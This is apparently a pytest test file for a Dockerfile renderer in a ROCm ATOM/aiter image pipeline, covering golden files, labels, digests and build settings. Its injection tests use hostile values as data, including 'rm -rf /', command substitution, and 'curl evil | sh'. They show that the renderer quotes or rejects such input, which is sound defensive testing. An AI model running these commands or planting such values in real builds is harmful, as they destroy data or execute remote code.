"""Render, unit tier: values, labels, inputs digest, quoting and golden Dockerfiles.

No git, no docker: `plan_render` and `render_dockerfile` are pure. Set
UPDATE_GOLDEN=1 to rewrite the golden files after an intended template change
(and review the diff).
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from pipeline import labels
from pipeline.config import Settings, load_settings
from pipeline.errors import ExitCode, RenderError
from pipeline.image.dockerfile import TEMPLATE, f_dq, f_sh, render_dockerfile, template_sources
from pipeline.image.render import (
    RenderPlan,
    SubmoduleSpec,
    base_image_note,
    pep440_from_describe,
    plan_render,
)
from pipeline.lock import BaseImagePin, Lock, PatchPin, SourcePin, Sources, Submodule

ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = ROOT / "dockerfiles"
GOLDEN = Path(__file__).parent / "golden"

ATOM_SHA = "ab9eb78105ac2e34153874bc0064b75c96c21b7a"
AITER_SHA = "08f04b889a4e3c2d1b0a9f8e7d6c5b4a39281706"
CK_SHA = "15e12dd7f25ee583617c78f66cb502ff9916585f"
BASE_DIGEST = "sha256:" + "1" * 64
PATCH = PatchPin(name="0001-minimax-m3-split-kv-cache.patch", sha256="2" * 64, status="applied")
CK = "3rdparty/composable_kernel"
CK_URL = "https://github.com/ROCm/composable_kernel.git"


def settings(tmp_path: Path, **env: str) -> Settings:
    return load_settings(env={f"PIPELINE_{k.upper()}": v for k, v in env.items()}, cwd=tmp_path)


def make_lock(
    s: Settings,
    *,
    patches: tuple[PatchPin, ...] = (PATCH,),
    atom_ref: str = "main",
    atom_url: str = "https://github.com/ROCm/ATOM.git",
    model: str = "MiniMax-M3-MXFP4",
) -> Lock:
    atom = SourcePin(
        url=atom_url,
        ref=atom_ref,
        sha=ATOM_SHA,
        date="2026-06-24T09:12:00Z",
        subject="MiniMax-M3 recipe",
    )
    aiter = SourcePin(
        url="https://github.com/ROCm/aiter.git",
        ref="main",
        sha=AITER_SHA,
        date="2026-06-23T10:09:28Z",
        subject="split kv_cache",
        submodules=(Submodule(path=CK, url=CK_URL, sha=CK_SHA),),
    )
    return Lock(
        model=model,
        sources=Sources(atom=atom, aiter=aiter),
        base_image=BaseImagePin(ref=s.image.base_image, digest=BASE_DIGEST),
        patches=patches,
    )


def plan(
    s: Settings,
    lock: Lock | None = None,
    *,
    source: str = "mirror",
    templates: Path = TEMPLATES,
    epoch: int | None = None,
    atom_tree: str = "3" * 40,
    wheels: dict[str, str] | None = None,
    aiter_requirements: bool = True,
) -> RenderPlan:
    return plan_render(
        lock=lock or make_lock(s),
        atom_tree=atom_tree,
        aiter_tree="4" * 40,
        submodules=(SubmoduleSpec(CK, CK_URL, CK_SHA, source),),
        settings=s,
        template_hashes=template_sources(templates),
        source_date_epoch=epoch,
        atom_version="0.1.5+12.gab9eb78105.p1234abcd",
        aiter_version="0.1.16+86.g08f04b889a",
        wheel_hashes=wheels if wheels is not None else {"lm_eval-0.4.13-py3-none-any.whl": "7" * 64},
        aiter_requirements=aiter_requirements,
    )


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    assert path.is_file(), f"golden file {path} missing: run with UPDATE_GOLDEN=1 and review it"
    assert text == path.read_text(encoding="utf-8"), f"rendered Dockerfile differs from {path}"


# --------------------------------------------------------------------------- golden files


def test_golden_real_defaults_for_mi355(tmp_path: Path) -> None:
    s = settings(tmp_path)
    p = plan(s)
    text = render_dockerfile(TEMPLATES, p.values)
    check_golden("Dockerfile.defaults", text)
    # The real shape, independently of the golden file:
    assert f"FROM {s.image.base_image}@{BASE_DIGEST} AS base\n" in text
    # upstream's build arguments, from [image]
    assert 'ARG MAX_JOBS=""\nARG PREBUILD_KERNELS="1"\nARG GPU_ARCHS="gfx950"\n' in text
    pip_cache = "--mount=type=cache,target=/root/.cache/pip,id=atom-image-pip,sharing=locked"
    assert f"RUN {pip_cache} python3 setup.py develop\n" in text
    assert f"RUN {pip_cache} pip install -e .\n" in text
    # aiter's requirements (from its tree) in their own layer, before the tree and its prebuild
    req = text.index("COPY aiter/requirements.txt /tmp/aiter-requirements.txt\n")
    install = text.index("pip install -r /tmp/aiter-requirements.txt")
    assert req < install < text.index("COPY aiter/ /app/aiter-test/")
    assert text.index("COPY aiter/ /app/aiter-test/") < text.index("python3 setup.py develop")
    # lm-eval and setuptools_scm pinned, from the wheelhouse, never from an index; git checked for
    assert "--no-index --find-links /tmp/atom-wheels 'lm-eval[api]==0.4.13' setuptools_scm==10.3.4" in text
    assert "--mount=type=bind,from=wheels,target=/tmp/atom-wheels" in text
    assert "command -v git >/dev/null 2>&1 ||" in text
    assert '"org.atom-image-pipeline.lm-eval.version"="0.4.13"' in text
    assert "WORKDIR /app/ATOM\n" in text
    assert "git clone" not in text and "git fetch" not in text and "<<" not in text
    assert "# syntax" not in text  # the frontend would be pulled


def test_golden_classic_defaults_has_no_buildkit_syntax(tmp_path: Path) -> None:
    text = render_dockerfile(TEMPLATES, plan(settings(tmp_path)).values, buildkit=False)
    check_golden("Dockerfile.classic-defaults", text)
    assert "--mount" not in text and "<<" not in text
    assert "COPY wheels/ /tmp/atom-wheels/\n" in text and "FROM scratch" not in text
    assert "RUN python3 setup.py develop\n" in text and "--no-cache-dir" in text


def test_golden_in_build_submodule(tmp_path: Path) -> None:
    text = render_dockerfile(TEMPLATES, plan(settings(tmp_path), source="in-build").values)
    check_golden("Dockerfile.in-build-submodule", text)
    assert f"git fetch -q --depth 1 {CK_URL} {CK_SHA}" in text
    assert f'test "$(git rev-parse HEAD)" = {CK_SHA}' in text


def test_golden_test_configuration_without_patches(tmp_path: Path) -> None:
    s = settings(
        tmp_path,
        base_image="atom-pipeline-test/bookworm-python3:1",
        repository="atom-pipeline-test/atom",
        gpu_archs="gfx942;gfx950",
        aiter_build_cmd="python3 -m compileall -q .",
        atom_install_cmd="python3 install_marker.py",
    )
    text = render_dockerfile(TEMPLATES, plan(s, make_lock(s, patches=())).values)
    check_golden("Dockerfile.test-config", text)
    assert 'GPU_ARCH_LIST="gfx942;gfx950"' in text


# --------------------------------------------------------------------------- order / caching shape


def test_aiter_stage_holds_nothing_from_atom(tmp_path: Path) -> None:
    s = settings(tmp_path)
    a = render_dockerfile(TEMPLATES, plan(s).values)
    b = render_dockerfile(
        TEMPLATES,
        plan(
            s, make_lock(s, patches=(PATCH.model_copy(update={"sha256": "9" * 64}),)), atom_tree="8" * 40
        ).values,
    )
    cut = "FROM aiter AS atom"

    def instructions(text: str) -> str:  # comments do not take part in the build cache
        return "\n".join(ln for ln in text.splitlines() if not ln.startswith("#"))

    # every instruction up to the ATOM stage is byte-identical: the aiter layers stay cached
    assert instructions(a.split(cut)[0]) == instructions(b.split(cut)[0])
    assert instructions(a.split(cut)[1]) != instructions(b.split(cut)[1])


# --------------------------------------------------------------------------- labels and digest


def test_labels(tmp_path: Path) -> None:
    s = settings(tmp_path)
    p = plan(s)
    lab = p.labels
    assert lab[labels.OCI_SOURCE] == "https://github.com/ROCm/ATOM.git"
    assert lab[labels.OCI_REVISION] == ATOM_SHA
    assert lab[labels.OCI_CREATED] == "2026-06-24T09:12:00Z"  # max(atom date, aiter date)
    assert lab[labels.OCI_BASE_NAME] == s.image.base_image
    assert lab[labels.OCI_BASE_DIGEST] == BASE_DIGEST
    assert lab[labels.ATOM_SHA] == ATOM_SHA and lab[labels.AITER_SHA] == AITER_SHA
    assert json.loads(lab[labels.PATCHES]) == [{"name": PATCH.name, "sha256": PATCH.sha256}]
    assert lab[labels.PAIR_DIGEST] == make_lock(s).pair_digest() != make_lock(s).digest()
    assert lab[labels.INPUTS_DIGEST] == p.inputs_digest
    assert p.image_ref == f"{s.image.repository}:candidate-{p.inputs_digest[:12]}"
    for key in (labels.OCI_VERSION, labels.OCI_TITLE, labels.TOOL_VERSION):
        assert lab[key]
    # the image serves every model of its pair: no label, value or Dockerfile line names one
    assert labels.MODEL not in lab and labels.RECIPE not in lab and "model" not in p.values
    assert not any("MiniMax" in f"{k}={v}" for k, v in lab.items())
    text = render_dockerfile(TEMPLATES, p.values)
    assert f'"{labels.INPUTS_DIGEST}"="{p.inputs_digest}"' in text


def test_source_date_epoch_sets_created(tmp_path: Path) -> None:
    p = plan(settings(tmp_path), epoch=1_700_000_000)
    assert p.labels[labels.OCI_CREATED] == "2023-11-14T22:13:20Z"


def test_deterministic_and_digest_tracks_every_input(tmp_path: Path) -> None:
    s = settings(tmp_path)
    base = plan(s)
    again = plan(s)
    assert render_dockerfile(TEMPLATES, base.values) == render_dockerfile(TEMPLATES, again.values)
    assert base.inputs_digest == again.inputs_digest

    changed = {
        "patch": plan(s, make_lock(s, patches=(PATCH.model_copy(update={"sha256": "9" * 64}),))),
        "atom tree": plan(s, atom_tree="7" * 40),
        "build command": plan(settings(tmp_path, aiter_build_cmd="python3 setup.py develop --verbose")),
        "build argument": plan(settings(tmp_path, max_jobs="16")),
        "wheelhouse": plan(s, wheels={"lm_eval-0.4.13-py3-none-any.whl": "8" * 64}),
        "epoch": plan(s, epoch=1),
    }
    tpl = tmp_path / "tpl"
    tpl.mkdir()
    (tpl / TEMPLATE).write_text((TEMPLATES / TEMPLATE).read_text() + "# one more comment\n")
    changed["template"] = plan(s, templates=tpl)
    for what, other in changed.items():
        assert other.inputs_digest != base.inputs_digest, what


def test_two_models_on_one_pair_share_one_image(tmp_path: Path) -> None:
    """Locks that differ only by model (and the refs that asked for the commits) give the same
    labels, Dockerfile and inputs digest: one build, one candidate for both models."""
    s = settings(tmp_path)
    first = plan(s, make_lock(s))
    second = plan(s, make_lock(s, model="Kimi-K2.5-MXFP4", atom_ref="v0.1.5"))
    assert make_lock(s).digest() != make_lock(s, model="Kimi-K2.5-MXFP4").digest()  # the locks differ
    assert second.inputs_digest == first.inputs_digest and second.image_ref == first.image_ref
    assert second.labels == first.labels
    assert render_dockerfile(TEMPLATES, second.values) == render_dockerfile(TEMPLATES, first.values)
    assert "Kimi" not in render_dockerfile(TEMPLATES, second.values)


def test_a_different_patch_makes_a_different_image_for_the_same_model_pair(tmp_path: Path) -> None:
    s = settings(tmp_path)
    base = plan(s, make_lock(s))
    other_patch = (PATCH.model_copy(update={"sha256": "9" * 64}),)
    for lock in (
        make_lock(s, patches=other_patch),
        make_lock(s, model="Kimi-K2.5-MXFP4", patches=other_patch),
        make_lock(s, patches=()),
    ):
        assert lock.pair_digest() != make_lock(s).pair_digest()
        other = plan(s, lock)
        assert other.inputs_digest != base.inputs_digest
        assert other.labels[labels.PAIR_DIGEST] != base.labels[labels.PAIR_DIGEST]
    # a patch the series did not apply to the tree is no input of the image
    skipped = PatchPin(name="0002-other.patch", sha256="8" * 64, status="not-needed")
    assert plan(s, make_lock(s, patches=(PATCH, skipped))).inputs_digest == base.inputs_digest


# --------------------------------------------------------------------------- quoting / injection


@pytest.mark.parametrize("evil", ["main; rm -rf /", "$(touch /pwned)", "`id`", 'a"b\\c', "x' y"])
def test_source_values_are_quoted_in_labels(tmp_path: Path, evil: str) -> None:
    # Requested refs are not labels (the same commits make the same image, whatever ref
    # asked for them); the repository URL is user input that is.
    s = settings(tmp_path)
    p = plan(s, make_lock(s, atom_url=evil))
    text = render_dockerfile(TEMPLATES, p.values)
    line = next(ln for ln in text.splitlines() if "atom.url" in ln)
    expected = '"' + evil.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'
    assert line.strip().startswith(f'"org.atom-image-pipeline.atom.url"={expected}')
    assert evil not in [ln.strip() for ln in text.splitlines()]  # never a line of its own


def test_newline_in_value_is_refused(tmp_path: Path) -> None:
    s = settings(tmp_path)
    with pytest.raises(RenderError) as e:
        render_dockerfile(TEMPLATES, plan(s, make_lock(s, atom_url="x\nRUN rm -rf /")).values)
    assert "newline" in str(e.value) and e.value.exit_code == ExitCode.RENDER


def test_multiline_build_command_is_refused(tmp_path: Path) -> None:
    s = settings(tmp_path, aiter_build_cmd="true\nRUN curl evil | sh")
    with pytest.raises(RenderError, match="control character"):
        render_dockerfile(TEMPLATES, plan(s).values)


def test_shell_and_label_quoting() -> None:
    assert f_sh("main; rm -rf /") == "'main; rm -rf /'"
    assert f_sh("abc") == "abc"
    assert f_dq('$HOME "x" \\') == '"\\$HOME \\"x\\" \\\\"'


def test_unpinned_base_image_is_refused(tmp_path: Path) -> None:
    s = settings(tmp_path)
    lock = make_lock(s).model_copy(update={"base_image": BaseImagePin(ref=s.image.base_image)})
    with pytest.raises(RenderError, match="without a digest"):
        plan(s, lock)


def test_render_takes_the_base_image_from_the_lock(tmp_path: Path) -> None:
    """The lock is final after patch: a configured base that differs is noted, not obeyed (or refused)."""
    s = settings(tmp_path)
    lock = make_lock(s)
    other = settings(tmp_path, base_image="rocm/pytorch:other")
    assert plan(other, lock).values["base_image"] == lock.base_image.pinned
    note = base_image_note(lock, other)
    assert note is not None and "rocm/pytorch:other" in note and "env PIPELINE_BASE_IMAGE" in note
    assert base_image_note(lock, s) is None  # the packaged default: nothing to say


def test_aiter_build_arch_must_match_gpu_archs(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="GPU_ARCHS=gfx950"):
        plan(settings(tmp_path, gpu_archs="gfx942", aiter_build_cmd="GPU_ARCHS=gfx950 python3 setup.py"))
    plan(settings(tmp_path, gpu_archs="gfx942", aiter_build_cmd="GPU_ARCHS=gfx942 python3 setup.py develop"))
    text = render_dockerfile(TEMPLATES, plan(settings(tmp_path, gpu_archs="gfx942")).values)
    assert 'ARG GPU_ARCHS="gfx942"' in text


@pytest.mark.parametrize(
    ("key", "value", "match"),
    [
        ("max_jobs", "lots", "max_jobs"),
        ("network", "host; rm -rf /", "network mode"),
        ("python_version", "three", "python_version"),
        ("build_secrets", "GIT_TOKEN,ghp_secretvalue-123", "never their values"),
    ],
)
def test_bad_build_settings_are_refused(tmp_path: Path, key: str, value: str, match: str) -> None:
    with pytest.raises(RenderError, match=match) as e:
        plan(settings(tmp_path, **{key: value}))
    assert e.value.exit_code == ExitCode.RENDER


def test_build_secrets_are_mounts_never_build_args(tmp_path: Path) -> None:
    p = plan(settings(tmp_path, build_secrets="GIT_TOKEN", submodules="in-build"), source="in-build")
    text = render_dockerfile(TEMPLATES, p.values)
    mount = "--mount=type=secret,id=GIT_TOKEN,required=true"
    fetch = f"RUN {mount} set -eu; \\\n    rm -rf /app/aiter-test/3rdparty/composable_kernel"
    assert fetch in text
    assert f"RUN {mount} --mount=type=cache" in text  # aiter's build
    assert text.count(mount) == 2
    assert "ARG GIT_TOKEN" not in text and "ENV GIT_TOKEN" not in text
    classic = render_dockerfile(TEMPLATES, p.values, buildkit=False)
    assert "GIT_TOKEN" not in classic  # the classic builder cannot take secrets (the build refuses)


def test_offline_build_uses_the_wheelhouse_only(tmp_path: Path) -> None:
    text = render_dockerfile(TEMPLATES, plan(settings(tmp_path, offline_build="true")).values)
    offline = "ARG PIP_NO_INDEX=1\nARG PIP_FIND_LINKS=/tmp/atom-wheels\n"
    assert text.count(offline) == 2  # the aiter and atom stages
    online = render_dockerfile(TEMPLATES, plan(settings(tmp_path)).values)
    assert "PIP_NO_INDEX" not in online


def test_bad_repository_is_refused(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="repository"):
        plan(settings(tmp_path, repository="Rocm/ATOM dev;x"))


# --------------------------------------------------------------------------- template errors


def _templates(tmp_path: Path, text: str) -> Path:
    d = tmp_path / "bad"
    d.mkdir()
    (d / TEMPLATE).write_text(text)
    return d


def test_syntax_error_names_file_and_line(tmp_path: Path) -> None:
    d = _templates(tmp_path, "FROM {{ base_image | image }}\n# ok\nRUN {% if %}\n")
    values: dict[str, Any] = plan(settings(tmp_path)).values
    with pytest.raises(RenderError) as e:
        render_dockerfile(d, values)
    assert f"{d / TEMPLATE}:3" in str(e.value) and e.value.exit_code == ExitCode.RENDER


def test_missing_value_is_an_error_not_empty(tmp_path: Path) -> None:
    d = _templates(tmp_path, "FROM {{ base_image | image }}\n\nRUN {{ no_such_value | sh }}\n")
    with pytest.raises(RenderError) as e:
        render_dockerfile(d, plan(settings(tmp_path)).values)
    assert "no_such_value" in str(e.value) and f"{d / TEMPLATE}:3" in str(e.value)


def test_unquoted_value_is_refused(tmp_path: Path) -> None:
    d = _templates(tmp_path, "FROM {{ base_image | image }}\nRUN echo {{ aiter_sha }}\n")
    with pytest.raises(RenderError) as e:
        render_dockerfile(d, plan(settings(tmp_path)).values)
    assert "without a quoting filter" in str(e.value) and f"{d / TEMPLATE}:2" in str(e.value)


def test_version_from_describe() -> None:
    sha = AITER_SHA
    assert pep440_from_describe("v0.1.16-86-g08f04b889a", sha) == "0.1.16+86.g08f04b889a"
    assert pep440_from_describe("v0.1.9.post1-0-g08f04b889a", sha) == "0.1.9.post1+g08f04b889a"
    assert pep440_from_describe(None, sha, "p1") == "0.0.0+g08f04b889a.p1"
    assert pep440_from_describe("weird-tag;rm-3-gabc", sha) == "0.0.0+g08f04b889a"


def _aiter_key(s: Settings, lock: Lock, *, atom_tree: str = "3" * 40, aiter_tree: str = "4" * 40) -> str:
    from pipeline.image.render import aiter_stage_key

    p = plan(s, lock, atom_tree=atom_tree)
    subs = (SubmoduleSpec(CK, CK_URL, CK_SHA, "mirror"),)
    return aiter_stage_key(render_dockerfile(TEMPLATES, p.values), aiter_tree, subs, {"w.whl": "7" * 64})


def test_the_aiter_stage_key_is_shared_by_models_and_atom_commits_with_one_aiter_pin(tmp_path: Path) -> None:
    s = settings(tmp_path)
    key = _aiter_key(s, make_lock(s))
    other_model = make_lock(s).model_copy(update={"model": "Kimi-K3"})
    other_atom = make_lock(s, patches=())
    other_atom = other_atom.model_copy(
        update={
            "sources": other_atom.sources.model_copy(
                update={"atom": other_atom.atom.model_copy(update={"sha": "9" * 40})}
            )
        }
    )
    # another model: the same image; another ATOM commit, no patches: the image differs, aiter's
    # stage does not
    assert plan(s, other_model).inputs_digest == plan(s).inputs_digest
    assert plan(s, other_atom, atom_tree="8" * 40).inputs_digest != plan(s).inputs_digest
    assert _aiter_key(s, other_model) == key
    assert _aiter_key(s, other_atom, atom_tree="8" * 40) == key
    # what aiter's stage is built from changes the key: its tree, archs, base digest, build arguments
    assert _aiter_key(s, make_lock(s), aiter_tree="6" * 40) != key
    assert _aiter_key(settings(tmp_path, gpu_archs="gfx942"), make_lock(s)) != key
    assert _aiter_key(settings(tmp_path, max_jobs="8"), make_lock(s)) != key
    rebased = make_lock(s).model_copy(
        update={"base_image": BaseImagePin(ref=s.image.base_image, digest="sha256:" + "2" * 64)}
    )
    assert _aiter_key(s, rebased) != key
